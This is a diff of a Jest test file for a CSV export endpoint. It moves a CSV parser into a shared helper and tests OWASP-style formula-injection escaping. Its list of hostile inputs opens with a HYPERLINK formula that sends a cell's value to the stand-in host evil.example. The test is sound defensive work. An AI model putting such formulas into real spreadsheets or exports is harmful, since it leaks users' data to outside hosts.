@@ -2,46 +2,10 @@
 // coordinator opens the export in Excel or LibreOffice (OWASP: prefix a single quote to a
 // cell that starts with = + - @, tab or carriage return). Numbers and coordinates unchanged.
 import request from 'supertest';
+import { parseCsv, text } from './support/csv';
 import { startTestApp, type TestApp } from './support/test-app';
 
 jest.setTimeout(60_000);
-
-const text = (r: request.Request) =>
-  r.buffer(true).parse((res, cb) => {
-    let data = '';
-    res.setEncoding('utf8');
-    res.on('data', (c: string) => (data += c));
-    res.on('end', () => cb(null, data));
-  });
-
-/** RFC 4180: quoted fields may hold commas, quotes, CR and LF; records end in CRLF or LF. */
-function parseCsv(body: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < body.length; i++) {
-    const c = body[i]!;
-    if (quoted) {
-      if (c === '"' && body[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (c === '"') quoted = false;
-      else field += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') {
-      row.push(field);
-      field = '';
-    } else if (c === '\n' || (c === '\r' && body[i + 1] === '\n')) {
-      if (c === '\r') i++;
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-    } else field += c;
-  }
-  return rows;
-}
 
 const HOSTILE = [
   '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
